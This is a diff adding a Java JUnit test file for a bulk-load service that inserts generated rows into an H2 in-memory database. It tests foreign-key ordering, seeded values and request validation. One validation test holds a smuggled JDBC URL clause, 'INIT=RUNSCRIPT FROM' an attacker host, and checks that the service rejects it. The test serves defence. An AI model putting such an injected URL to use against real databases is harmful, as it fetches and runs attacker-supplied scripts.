@@ -0,0 +1,257 @@
+package com.itdg.generator.load;
+
+import com.itdg.common.dto.metadata.ColumnMetadata;
+import com.itdg.common.dto.metadata.SchemaMetadata;
+import com.itdg.common.dto.metadata.TableMetadata;
+import com.itdg.common.dto.request.BulkLoadRequest;
+import com.itdg.common.dto.request.DbConnectionRequest;
+import com.itdg.common.dto.request.GenerateDataRequest;
+import com.itdg.generator.plan.TablePlan;
+import com.itdg.generator.service.GenerationState;
+import com.itdg.generator.service.StreamingDataGeneratorService;
+import com.itdg.generator.strategy.impl.BooleanGeneratorStrategy;
+import com.itdg.generator.strategy.impl.DateTimeGeneratorStrategy;
+import com.itdg.generator.strategy.impl.NumericGeneratorStrategy;
+import com.itdg.generator.strategy.impl.StringGeneratorStrategy;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.List;
+import java.util.Map;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+/**
+ * 직접 적재 테스트 - H2 인메모리 DB를 대상으로 사용
+ */
+@DisplayName("BulkLoadService 테스트")
+class BulkLoadServiceTest {
+
+    private final StreamingDataGeneratorService generatorService = new StreamingDataGeneratorService(List.of(
+            new NumericGeneratorStrategy(), new StringGeneratorStrategy(), new DateTimeGeneratorStrategy(),
+            new BooleanGeneratorStrategy()));
+    private final BulkLoadService service = new BulkLoadService(generatorService,
+            new LoadTargetPolicy(List.of(), true), 1000, 4);
+
+    private String url;
+    private Connection keepAlive; // 인메모리 DB를 테스트 동안 유지
+
+    @BeforeEach
+    void createTarget() throws SQLException {
+        url = "jdbc:h2:mem:load-" + System.nanoTime();
+        keepAlive = DriverManager.getConnection(url, "sa", "");
+        try (Statement statement = keepAlive.createStatement()) {
+            statement.execute("CREATE TABLE \"customers\" (\"id\" BIGINT PRIMARY KEY, \"name\" VARCHAR(255))");
+            statement.execute("CREATE TABLE \"products\" (\"id\" BIGINT PRIMARY KEY, \"price\" DECIMAL(12, 2),"
+                    + " \"active\" BOOLEAN)");
+            statement.execute("CREATE TABLE \"orders\" (\"id\" BIGINT PRIMARY KEY,"
+                    + " \"customer_id\" BIGINT REFERENCES \"customers\"(\"id\"),"
+                    + " \"product_id\" BIGINT REFERENCES \"products\"(\"id\"), \"created\" TIMESTAMP)");
+        }
+    }
+
+    @AfterEach
+    void dropTarget() throws SQLException {
+        keepAlive.close();
+    }
+
+    private static ColumnMetadata pk() {
+        return ColumnMetadata.builder().name("id").dataType("BIGINT").isPrimaryKey(true).build();
+    }
+
+    private static ColumnMetadata fk(String name, String target) {
+        return ColumnMetadata.builder().name(name).dataType("BIGINT").isForeignKey(true)
+                .foreignKeyTargetTable(target).build();
+    }
+
+    /**
+     * 자식 테이블을 먼저 선언한 스키마 (FK 컬럼 값은 부모 PK 범위 1..rows)
+     */
+    private GenerateDataRequest generation(long rows) {
+        TableMetadata orders = TableMetadata.builder().tableName("orders").columns(List.of(pk(),
+                fk("customer_id", "customers"), fk("product_id", "products"),
+                ColumnMetadata.builder().name("created").dataType("TIMESTAMP").build())).build();
+        TableMetadata customers = TableMetadata.builder().tableName("customers").columns(List.of(pk(),
+                ColumnMetadata.builder().name("name").dataType("VARCHAR").length(30).build())).build();
+        TableMetadata products = TableMetadata.builder().tableName("products").columns(List.of(pk(),
+                ColumnMetadata.builder().name("price").dataType("DECIMAL").build(),
+                ColumnMetadata.builder().name("active").dataType("BOOLEAN").build())).build();
+        return GenerateDataRequest.builder()
+                .schema(SchemaMetadata.builder().tables(List.of(orders, customers, products)).build())
+                .rowCount(rows)
+                .seed(11L)
+                .build();
+    }
+
+    private BulkLoadRequest request(GenerateDataRequest generation, Integer batchSize, String method) {
+        return BulkLoadRequest.builder()
+                .target(DbConnectionRequest.builder().url(url).username("sa").password("").build())
+                .generation(generation)
+                .batchSize(batchSize)
+                .parallelism(2)
+                .method(method)
+                .build();
+    }
+
+    private long count(String table) throws SQLException {
+        try (Statement statement = keepAlive.createStatement();
+             ResultSet rs = statement.executeQuery("SELECT COUNT(*) FROM \"" + table + "\"")) {
+            rs.next();
+            return rs.getLong(1);
+        }
+    }
+
+    @Nested
+    @DisplayName("적재")
+    class Load {
+
+        @Test
+        @DisplayName("참조되는 테이블을 먼저 병렬로 적재하고 FK 제약을 지킨 채 테이블별 처리량을 보고한다")
+        void loadsInForeignKeyOrder() throws SQLException {
+            // When
+            BulkLoadReport report = service.load(request(generation(2500), 300, null));
+
+            // Then
+            assertThat(report.getTables()).extracting(TableLoadResult::getTableName)
+                    .containsExactly("customers", "products", "orders");
+            assertThat(report.getTables()).allSatisfy(table -> {
+                assertThat(table.getRows()).isEqualTo(2500);
+                assertThat(table.getMethod()).isEqualTo(BulkLoadService.Method.BATCH);
+                assertThat(table.getRowsPerSecond()).isPositive();
+            });
+            assertThat(report.getTotalRows()).isEqualTo(7500);
+            assertThat(count("customers")).isEqualTo(2500);
+            assertThat(count("products")).isEqualTo(2500);
+            assertThat(count("orders")).isEqualTo(2500);
+        }
+
+        @Test
+        @DisplayName("부모 테이블이 100행보다 적어도 FK 값은 부모 PK 범위 안에 있어 제약을 지킨다")
+        void smallParents_keepForeignKeysInRange() throws SQLException {
+            // When
+            BulkLoadReport report = service.load(request(generation(10), null, null));
+
+            // Then
+            assertThat(report.getTotalRows()).isEqualTo(30);
+            try (Statement statement = keepAlive.createStatement();
+                 ResultSet rs = statement.executeQuery("SELECT MIN(\"customer_id\"), MAX(\"customer_id\"),"
+                         + " MAX(\"product_id\") FROM \"orders\"")) {
+                rs.next();
+                assertThat(rs.getLong(1)).isGreaterThanOrEqualTo(1);
+                assertThat(rs.getLong(2)).isLessThanOrEqualTo(10);
+                assertThat(rs.getLong(3)).isLessThanOrEqualTo(10);
+            }
+        }
+
+        @Test
+        @DisplayName("자기 참조 FK는 앞서 생성한 행만 가리켜 FK 제약을 켠 채 배치로 적재된다")
+        void selfReference_pointsAtEarlierRows() throws SQLException {
+            // Given
+            try (Statement statement = keepAlive.createStatement()) {
+                statement.execute("CREATE TABLE \"employees\" (\"id\" BIGINT PRIMARY KEY,"
+                        + " \"manager_id\" BIGINT REFERENCES \"employees\"(\"id\"))");
+            }
+            TableMetadata employees = TableMetadata.builder().tableName("employees").columns(List.of(pk(),
+                    ColumnMetadata.builder().name("manager_id").dataType("BIGINT").isNullable(true)
+                            .isForeignKey(true).foreignKeyTargetTable("employees").build())).build();
+            GenerateDataRequest generation = GenerateDataRequest.builder()
+                    .schema(SchemaMetadata.builder().tables(List.of(employees)).build())
+                    .rowCount(2500L)
+                    .seed(11L)
+                    .build();
+
+            // When
+            BulkLoadReport report = service.load(request(generation, 300, "batch"));
+
+            // Then
+            assertThat(report.getTotalRows()).isEqualTo(2500);
+            try (Statement statement = keepAlive.createStatement();
+                 ResultSet rs = statement.executeQuery("SELECT COUNT(*) FROM \"employees\""
+                         + " WHERE \"manager_id\" >= \"id\" OR (\"manager_id\" IS NULL AND \"id\" <> 1)")) {
+                rs.next();
+                assertThat(rs.getLong(1)).isZero();
+            }
+        }
+
+        @Test
+        @DisplayName("적재한 값은 같은 시드의 생성 스트림과 같다")
+        void loadedValues_matchGeneratedRows() throws SQLException {
+            // Given
+            GenerateDataRequest generation = generation(100);
+            TableMetadata customers = generation.getSchema().getTables().get(1);
+            List<Map<String, Object>> expected = generatorService
+                    .generateDataStream(TablePlan.compile(customers), 100, GenerationState.fresh(11L)).toList();
+
+            // When
+            service.load(request(generation, 7, "batch"));
+
+            // Then
+            try (Statement statement = keepAlive.createStatement();
+                 ResultSet rs = statement.executeQuery("SELECT \"id\", \"name\" FROM \"customers\" ORDER BY \"id\"")) {
+                for (Map<String, Object> row : expected) {
+                    assertThat(rs.next()).isTrue();
+                    assertThat(rs.getLong(1)).isEqualTo(((Number) row.get("id")).longValue());
+                    assertThat(rs.getString(2)).isEqualTo(row.get("name"));
+                }
+            }
+        }
+
+        @Test
+        @DisplayName("적재에 실패하면 실패한 테이블 이름과 함께 IllegalStateException")
+        void failure_namesTable() throws SQLException {
+            // Given
+            try (Statement statement = keepAlive.createStatement()) {
+                statement.execute("DROP TABLE \"orders\"");
+            }
+
+            // When & Then
+            assertThatThrownBy(() -> service.load(request(generation(10), null, null)))
+                    .isInstanceOf(IllegalStateException.class)
+                    .hasMessageContaining("orders");
+            assertThat(count("customers")).isEqualTo(10);
+        }
+    }
+
+    @Nested
+    @DisplayName("요청 검증")
+    class Validation {
+
+        @Test
+        @DisplayName("PostgreSQL이 아닌 대상의 COPY, 범위를 벗어난 batchSize, 대상 누락은 IllegalArgumentException")
+        void invalidRequests_areRejected() {
+            assertThatThrownBy(() -> service.load(request(generation(10), null, "copy")))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("PostgreSQL");
+            assertThatThrownBy(() -> service.load(request(generation(10), 0, null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("batchSize");
+            assertThatThrownBy(() -> service.load(BulkLoadRequest.builder().generation(generation(10)).build()))
+                    .isInstanceOf(IllegalArgumentException.class);
+            assertThatThrownBy(() -> service.load(request(generation(10), null, "bcp")))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("bcp");
+        }
+
+        @Test
+        @DisplayName("허용 목록 밖의 대상은 커넥션을 열기 전에 IllegalArgumentException")
+        void disallowedTarget_isRejected() {
+            // Given
+            BulkLoadRequest request = request(generation(10), null, null);
+            request.getTarget().setUrl(url + ";INIT=RUNSCRIPT FROM 'http://attacker/x.sql'");
+
+            // When & Then
+            assertThatThrownBy(() -> service.load(request))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("';'");
+        }
+    }
+}